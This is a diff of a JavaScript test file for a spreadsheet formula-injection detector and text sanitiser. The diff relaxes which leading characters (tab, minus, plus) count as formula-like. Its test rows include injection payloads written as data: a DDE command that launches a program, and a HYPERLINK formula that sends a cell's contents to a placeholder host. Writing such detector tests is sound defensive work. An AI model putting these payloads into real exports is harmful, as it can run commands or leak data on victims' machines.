@@ -39,20 +39,21 @@ describe('text transform, JS and SQL', () => {
     ['全角\u3000空格', '全角 空格'],
     ['ＫＯＬ 种草', 'ＫＯＬ 种草'], // text keeps full-width letters as written
     ['-5', '-5'],
-    ['+86 138 0013 8000', null, 'formula_like'], // phone numbers too: they are no number here
+    ['+86 138 0013 8000', '+86 138 0013 8000'], // a phone number is no expression
     ['+86 138', '+86 138'], // but this one reads as the space-grouped number 86 138
     ['=HYPERLINK("http://x?"&A1,"click")', null, 'formula_like'],
     ['@SUM(1+1)', null, 'formula_like'],
     ['+SUM(1)', null, 'formula_like'],
     ["-2+3+cmd|' /C calc'!A0", null, 'formula_like'],
     ['\t=1', null, 'formula_like'],
-    ['\tplain', null, 'formula_like'], // a leading tab alone is enough
-    ['\rplain', null, 'formula_like'],
+    ['\tplain', 'plain'], // a stray tab is trimmed, not a formula
+    ['+ button not enabled', '+ button not enabled'], // real task summary (SiP)
+    ['- draft', '- draft'],
     ['  =1', null, 'formula_like'],
     ['\u200b=1', null, 'formula_like'],
     ['a=1', 'a=1'],
     ['email@example.com', 'email@example.com'],
-    ['- bullet', null, 'formula_like'],
+    ['- bullet', '- bullet'],
     ['-', null],
     ['N/A', null],
     ['null', null],
@@ -89,10 +90,14 @@ describe('isFormulaLike, JS and SQL', () => {
     ['-1,234.5', false],
     ['-12%', false],
     ['+ 5', false],
-    ['-', true],
+    ['-', false], // a lone sign is no expression
+    ['-(1)', true],
     ['@x', true],
-    ['\tx', true],
-    ['\rx', true],
+    ['\tx', false], // a stray tab is whitespace; only what follows it counts
+    ['\t=x', true],
+    ['\rx', false],
+    ['-A1', true],
+    ['+2*3', true],
     ['x', false],
     ['', false],
     ['  -5  ', false],
